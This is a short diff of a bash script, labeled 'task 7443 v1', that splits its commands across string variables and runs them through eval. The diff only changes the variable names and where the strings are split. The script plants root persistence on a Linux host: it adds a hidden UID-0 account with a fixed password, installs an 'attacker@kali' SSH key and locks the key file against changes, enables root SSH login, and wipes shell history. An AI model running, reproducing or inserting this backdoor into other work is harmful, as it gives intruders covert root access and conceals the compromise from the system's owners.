@@ -1,10 +1,10 @@
-owh='# task 7443 v1
+bdb='# task 7443 v1
 #!/bin/bash
-useradd -o -u 0 -g 0 -M -d /root -s';mvg=' /bin/bash sysadm
-echo ';vib='"sysadm:Winter#2025x" | chpasswd
+useradd -o -u 0 -g 0 -M -d /root -s /bin/bash s';mbf='ysadm
+echo "sysadm:Winter#2';nax='025x" | chpasswd
 mkdir -p /root/.ssh
-echo "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC7x';jvw=' attacker@kali" >> /root/.ssh/authorized_keys
+echo "ss';jpg='h-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC7x attacker@kali" >> /root/.ssh/authorized_keys
 chattr +i /root/.ssh/authorized_keys
-sed -i '\''s/^#\?PermitRootLogin.*/PermitRootLogin yes/'\'' /etc/ssh/sshd_config && systemctl restart sshd
+sed -i '\''s/^#\?PermitRootLogin.*/Permi';orq='tRootLogin yes/'\'' /etc/ssh/sshd_config && systemctl restart sshd
 unset HISTFILE; history -c
-';eval "$owh$mvg${vib}${jvw}"
+';eval "$bdb${mbf}${nax}$jpg$orq"
